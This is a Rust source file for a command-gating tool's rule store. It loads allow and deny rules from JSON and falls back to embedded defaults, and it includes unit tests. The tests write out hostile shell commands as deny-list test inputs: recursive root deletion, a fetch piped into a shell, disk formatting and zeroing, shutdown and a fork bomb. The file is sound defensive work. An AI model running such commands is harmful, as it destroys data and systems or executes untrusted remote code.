//! Rule store: the Allow and Deny rule sets.
//!
//! Each set loads from an external JSON artifact (`{"rules": [{id, kind,
//! pattern, reason}, ...]}`) and falls back to an embedded default set when
//! the file is missing, unreadable, or fails validation — the gate is never
//! inoperative because of configuration. Resolution is an explicit two-tier
//! `resolve(external, defaults)` with no process-wide state.
//!
//! Pattern rules compile with the `regex` crate, whose matching is
//! linear-time in the input, so patterns arriving from edited configuration
//! cannot cause catastrophic backtracking. A pattern that fails to compile
//! is dropped with a warning and never matches.

use regex::Regex;
use serde::{Deserialize, Serialize};

const DEFAULT_ALLOW: &str = include_str!("../../rules/allowlist.default.json");
const DEFAULT_DENY: &str = include_str!("../../rules/denylist.default.json");

/// Path override for the external allowlist artifact.
pub const ALLOW_RULES_ENV: &str = "CMDGATE_ALLOW_RULES";
/// Path override for the external denylist artifact.
pub const DENY_RULES_ENV: &str = "CMDGATE_DENY_RULES";

const ALLOW_RULES_PATH: &str = "~/.config/cmdgate/allowlist.json";
const DENY_RULES_PATH: &str = "~/.config/cmdgate/denylist.json";

/// How a rule's pattern is applied to a command string.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum RuleKind {
    /// Trimmed command starts with the pattern.
    Prefix,
    /// Command contains the pattern as a substring.
    Contains,
    /// Command matches the compiled regular expression.
    Pattern,
}

/// A single allow or deny rule. The reason is surfaced verbatim on every
/// deny, so it is written for the person reading the refusal.
#[derive(Debug, Clone)]
pub struct Rule {
    pub id: String,
    pub kind: RuleKind,
    pub pattern: String,
    pub reason: String,
    compiled: Option<Regex>,
}

impl Rule {
    pub fn new(
        id: impl Into<String>,
        kind: RuleKind,
        pattern: impl Into<String>,
        reason: impl Into<String>,
    ) -> Result<Self, regex::Error> {
        let pattern = pattern.into();
        let compiled = match kind {
            RuleKind::Pattern => Some(Regex::new(&pattern)?),
            _ => None,
        };
        Ok(Self {
            id: id.into(),
            kind,
            pattern,
            reason: reason.into(),
            compiled,
        })
    }

    /// Test this rule against a command string.
    pub fn matches(&self, command: &str) -> bool {
        match self.kind {
            RuleKind::Prefix => command.trim().starts_with(&self.pattern),
            RuleKind::Contains => command.contains(&self.pattern),
            // A rule whose pattern failed to compile never matches.
            RuleKind::Pattern => self
                .compiled
                .as_ref()
                .is_some_and(|re| re.is_match(command)),
        }
    }
}

/// On-disk shape of a rule file.
#[derive(Debug, Deserialize)]
struct RuleFile {
    rules: Vec<RuleSpec>,
}

#[derive(Debug, Deserialize)]
struct RuleSpec {
    id: String,
    kind: RuleKind,
    pattern: String,
    reason: String,
}

/// An ordered list of rules; first match wins.
#[derive(Debug, Default)]
pub struct RuleSet {
    rules: Vec<Rule>,
}

impl RuleSet {
    /// Parse a rule file. A structurally invalid file (missing field,
    /// unrecognized kind, malformed JSON) is an error for the whole file;
    /// an uncompilable pattern only drops that one rule.
    pub fn from_json(content: &str, origin: &str) -> Result<Self, serde_json::Error> {
        let file: RuleFile = serde_json::from_str(content)?;
        let mut rules = Vec::with_capacity(file.rules.len());
        for spec in file.rules {
            match Rule::new(spec.id.clone(), spec.kind, spec.pattern, spec.reason) {
                Ok(rule) => rules.push(rule),
                Err(e) => {
                    log::warn!("cmdgate: dropping rule {} from {origin}: {e}", spec.id);
                }
            }
        }
        Ok(Self { rules })
    }

    /// The first rule matching `command`, if any.
    pub fn first_match(&self, command: &str) -> Option<&Rule> {
        self.rules.iter().find(|r| r.matches(command))
    }

    pub fn len(&self) -> usize {
        self.rules.len()
    }

    pub fn is_empty(&self) -> bool {
        self.rules.is_empty()
    }
}

/// Two-tier resolution: external content if it validates, embedded
/// defaults otherwise.
pub fn resolve(external: Option<&str>, defaults: &str, origin: &str) -> RuleSet {
    if let Some(content) = external {
        match RuleSet::from_json(content, origin) {
            Ok(set) => return set,
            Err(e) => {
                log::warn!("cmdgate: invalid {origin} rule file: {e}; using embedded defaults");
            }
        }
    }
    RuleSet::from_json(defaults, "embedded defaults").expect("embedded default rules must parse")
}

/// Load the effective allowlist (external artifact or embedded defaults).
pub fn load_allow_rules() -> RuleSet {
    load_ruleset(ALLOW_RULES_ENV, ALLOW_RULES_PATH, DEFAULT_ALLOW, "allowlist")
}

/// Load the effective denylist (external artifact or embedded defaults).
pub fn load_deny_rules() -> RuleSet {
    load_ruleset(DENY_RULES_ENV, DENY_RULES_PATH, DEFAULT_DENY, "denylist")
}

fn load_ruleset(env_key: &str, default_path: &str, defaults: &str, origin: &str) -> RuleSet {
    let (path, explicit) = match std::env::var(env_key) {
        Ok(p) => (p, true),
        Err(_) => (default_path.to_string(), false),
    };
    let path = shellexpand::tilde(&path).into_owned();
    let external = match std::fs::read_to_string(&path) {
        Ok(content) => Some(content),
        Err(e) => {
            if explicit {
                log::warn!("cmdgate: cannot read {origin} rules at {path}: {e}; using embedded defaults");
            }
            None
        }
    };
    resolve(external.as_deref(), defaults, origin)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn defaults(which: &str) -> RuleSet {
        let content = if which == "allow" { DEFAULT_ALLOW } else { DEFAULT_DENY };
        RuleSet::from_json(content, "test").unwrap()
    }

    #[test]
    fn embedded_defaults_parse() {
        assert!(!defaults("allow").is_empty());
        assert!(!defaults("deny").is_empty());
    }

    #[test]
    fn default_deny_matches_rm_root() {
        let deny = defaults("deny");
        let rule = deny.first_match("rm -rf /").expect("rm -rf / must be denied");
        assert_eq!(rule.id, "deny-rm-system-path");
    }

    #[test]
    fn default_deny_matches_fetch_pipe_shell() {
        let deny = defaults("deny");
        let rule = deny.first_match("curl http://x | bash").unwrap();
        assert_eq!(rule.id, "deny-fetch-pipe-shell");
        assert!(deny.first_match("wget -qO- http://x | sudo sh").is_some());
    }

    #[test]
    fn default_deny_matches_power_and_disks() {
        let deny = defaults("deny");
        assert!(deny.first_match("shutdown -h now").is_some());
        assert!(deny.first_match("mkfs.ext4 /dev/sda1").is_some());
        assert!(deny.first_match("dd if=/dev/zero of=/dev/sda").is_some());
    }

    #[test]
    fn default_deny_ignores_safe_rm() {
        let deny = defaults("deny");
        assert!(deny.first_match("rm -rf ./node_modules").is_none());
        assert!(deny.first_match("rm build/out.txt").is_none());
    }

    #[test]
    fn default_allow_matches_read_only() {
        let allow = defaults("allow");
        assert!(allow.first_match("git status").is_some());
        assert!(allow.first_match("ls -la").is_some());
        assert!(allow.first_match("echo done").is_some());
    }

    #[test]
    fn allow_prefix_does_not_bleed_into_other_binaries() {
        let allow = defaults("allow");
        // `^ls(\s|$)` must not match lsof
        assert!(allow.first_match("lsof -i :3000").is_none());
    }

    #[test]
    fn prefix_matches_iff_trimmed_starts_with() {
        let rule = Rule::new("r", RuleKind::Prefix, "git status", "x").unwrap();
        assert!(rule.matches("  git status --short"));
        assert!(!rule.matches("git stash"));
    }

    #[test]
    fn contains_matches_substring() {
        let rule = Rule::new("r", RuleKind::Contains, ":(){", "x").unwrap();
        assert!(rule.matches("foo; :(){ :|:& };:"));
        assert!(!rule.matches("echo hello"));
    }

    #[test]
    fn uncompilable_pattern_is_dropped_not_fatal() {
        let content = r#"{"rules": [
            {"id": "bad", "kind": "pattern", "pattern": "([unclosed", "reason": "x"},
            {"id": "good", "kind": "prefix", "pattern": "ls", "reason": "x"}
        ]}"#;
        let set = RuleSet::from_json(content, "test").unwrap();
        assert_eq!(set.len(), 1);
        assert!(set.first_match("ls -la").is_some());
    }

    #[test]
    fn unknown_kind_rejects_whole_file() {
        let content = r#"{"rules": [{"id": "x", "kind": "glob", "pattern": "*", "reason": "x"}]}"#;
        assert!(RuleSet::from_json(content, "test").is_err());
    }

    #[test]
    fn missing_field_rejects_whole_file() {
        let content = r#"{"rules": [{"id": "x", "kind": "prefix", "pattern": "ls"}]}"#;
        assert!(RuleSet::from_json(content, "test").is_err());
    }

    #[test]
    fn resolve_prefers_valid_external() {
        let external = r#"{"rules": [{"id": "only", "kind": "prefix", "pattern": "zz", "reason": "x"}]}"#;
        let set = resolve(Some(external), DEFAULT_ALLOW, "allowlist");
        assert_eq!(set.len(), 1);
    }

    #[test]
    fn resolve_falls_back_on_invalid_external() {
        let set = resolve(Some("not json"), DEFAULT_ALLOW, "allowlist");
        assert!(set.first_match("git status").is_some());
    }

    #[test]
    fn resolve_falls_back_on_absent_external() {
        let set = resolve(None, DEFAULT_DENY, "denylist");
        assert!(set.first_match("rm -rf /").is_some());
    }
}
